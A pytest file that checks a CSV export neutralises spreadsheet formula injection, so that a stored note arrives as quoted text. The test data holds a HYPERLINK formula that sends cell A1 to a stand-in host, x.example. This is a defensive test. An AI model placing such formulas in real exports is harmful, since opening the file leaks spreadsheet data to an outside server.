"""Rows for exports others open (issue 43): a stored note that is a spreadsheet formula comes
out of ``runs export --format csv`` as text (OWASP's CSV injection), on stdout and in a file."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.adversarial.table import Case, cases, run_case

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _stored(tmp: Path) -> None:
    from gpuscout.store import Store
    from tests.store.test_store import _result

    with Store(str(tmp / "runs.sqlite")) as store:
        store.save_many([_result(0).model_copy(update={"note": FORMULA})])


def _written_as_text(tmp: Path) -> None:
    text = (tmp / "out.csv").read_text()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


EXPORT = ("runs", "export", "--format", "csv")
CASES = [
    Case(EXPORT, 0, '"\'=HYPERLINK(""http://x.example/', setup=_stored, one_line=False),
    Case((*EXPORT, "-o", "{tmp}/out.csv"), 0, "", setup=_stored, one_line=False),
]


@cases(CASES)
def test_row(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run_case(case, tmp_path, monkeypatch)
    if "-o" in case.args:
        _written_as_text(tmp_path)
